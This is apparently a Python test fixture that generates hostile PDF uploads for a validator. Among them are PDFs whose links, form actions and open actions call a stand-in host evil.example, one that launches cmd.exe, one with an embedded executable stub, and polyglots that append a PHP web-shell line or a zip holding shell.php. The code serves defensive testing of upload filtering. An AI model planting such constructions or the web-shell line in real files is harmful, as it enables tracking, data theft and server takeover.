"""Hostile files, built on the fly with pikepdf and Pillow (no binaries in the repository).

Each PDF is otherwise a good one-page file, saved with compressed object streams so its
dangerous names are not visible in the raw bytes: only parsing finds them.
"""

import io
import sys
import zipfile
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

# A page big enough that the file passes one kilobyte, so "the first KiB" is not all.
_CONTENT = b"BT /F1 12 Tf 72 720 Td (Surat permohonan izin) Tj ET\n" * 40


def _pdf(change=None, *, tail=b"") -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    page.Contents = pdf.make_stream(_CONTENT)
    if change is not None:
        change(pdf)
    out = io.BytesIO()
    pdf.save(
        out,
        object_stream_mode=pikepdf.ObjectStreamMode.generate,
        compress_streams=True,
        deterministic_id=True,
    )
    data = out.getvalue()
    if tail:
        # Past the first kilobyte (a comment line pads it), before a last %%EOF, which
        # viewers look for in the last kilobyte.
        padding = b"%" + b"-" * max(0, 1100 - len(data)) + b"\n"
        data = data + padding + b"%" + tail + b"\n%%EOF\n"
    return data


def _link(pdf, action):
    annot = pdf.make_indirect(
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 100, 100], A=action)
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([annot]))


def _gotor(pdf):
    _link(pdf, Dictionary(S=Name.GoToR, F=String(r"\\10.0.0.66\share\berkas.pdf"), D=[0]))


def _xfa_script(pdf):
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('http://evil.example/');</script></event></subform></template>"
        b"</xdp:xdp>"
    )
    pdf.Root.AcroForm = pdf.make_indirect(Dictionary(Fields=Array(), XFA=xfa))


def _submit_form(pdf):
    _link(
        pdf,
        Dictionary(
            S=Name.SubmitForm,
            F=Dictionary(FS=Name.URL, F=String("http://evil.example/collect")),
        ),
    )


def _open_action_uri(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(
        Dictionary(S=Name.URI, URI=String("http://evil.example/track"))
    )


def _open_action_goto(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.GoTo, D=[pdf.pages[0].obj]))


def _import_data(pdf):
    _link(pdf, Dictionary(S=Name.ImportData, F=String("data.fdf")))


def _launch(pdf):
    _link(pdf, Dictionary(S=Name.Launch, F=String("cmd.exe")))


def _javascript_name_tree(pdf):
    js = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), js])))


def _page_trigger(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _embedded_file(pdf):
    pdf.attachments["program.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00")


def _rich_media(pdf):
    annot = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.RichMedia,
            Rect=[0, 0, 100, 100],
            RichMediaContent=Dictionary(Assets=Dictionary(Names=Array())),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect(Array([annot]))


def _zip_bytes() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("shell.php", "<?= 1 ?>")
    return out.getvalue()


def good_pdf() -> bytes:
    return _pdf()


# Name -> (bytes, why it is hostile). Every one must be refused as a PDF upload.
def active_pdfs() -> dict[str, bytes]:
    """PDFs that would do something when opened: each refused as active content."""
    return {
        "gotor_network_share": _pdf(_gotor),
        "xfa_script_in_compressed_stream": _pdf(_xfa_script),
        "submit_form": _pdf(_submit_form),
        "open_action_uri": _pdf(_open_action_uri),
        "open_action_goto": _pdf(_open_action_goto),
        "import_data": _pdf(_import_data),
        "launch": _pdf(_launch),
        "javascript_name_tree": _pdf(_javascript_name_tree),
        "page_open_trigger": _pdf(_page_trigger),
        "embedded_file": _pdf(_embedded_file),
        "rich_media": _pdf(_rich_media),
    }


def polyglot_pdfs() -> dict[str, bytes]:
    """PDFs that are also something else further in: each refused as a polyglot."""
    return {
        "html_after_first_kib": _pdf(tail=b"<html><body>hi</body></html>"),
        "script_after_first_kib": _pdf(tail=b"<SCRIPT>alert(1)</SCRIPT>"),
        "php_after_first_kib": _pdf(tail=b"<?php system($_GET['c']); ?>"),
        "zip_appended": _pdf(tail=_zip_bytes()),
    }


def unreadable_pdfs() -> dict[str, bytes]:
    """Files that start like a PDF and cannot be read as one."""
    good = good_pdf()
    start = good.index(b"xref") if b"xref" in good else len(good) // 2
    return {
        "text_with_eof": b"%PDF-1.7\nthis is not a pdf\n%%EOF\n",
        "illegal_generation": (
            b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 65536 R >>\nendobj\n"
            b"xref\n0 2\n0000000000 65535 f \n0000000009 65536 n \n"
            b"trailer\n<< /Size 2 /Root 1 65536 R >>\nstartxref\n60\n%%EOF\n"
        ),
        "cut_and_patched": good[: start // 2] + b"\n%%EOF\n",
    }


def image_bytes(fmt: str = "PNG") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, fmt)
    return out.getvalue()


def all_files() -> dict[str, bytes]:
    files = {"good.pdf": good_pdf(), "good.png": image_bytes()}
    for group in (active_pdfs(), polyglot_pdfs(), unreadable_pdfs()):
        files.update({f"{name}.pdf": data for name, data in group.items()})
    files["html_renamed.pdf"] = b"<html><script>alert(1)</script></html>"
    return files


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    target.mkdir(parents=True, exist_ok=True)
    for name, data in all_files().items():
        (target / name).write_bytes(data)
    print(f"{len(all_files())} files written to {target}")
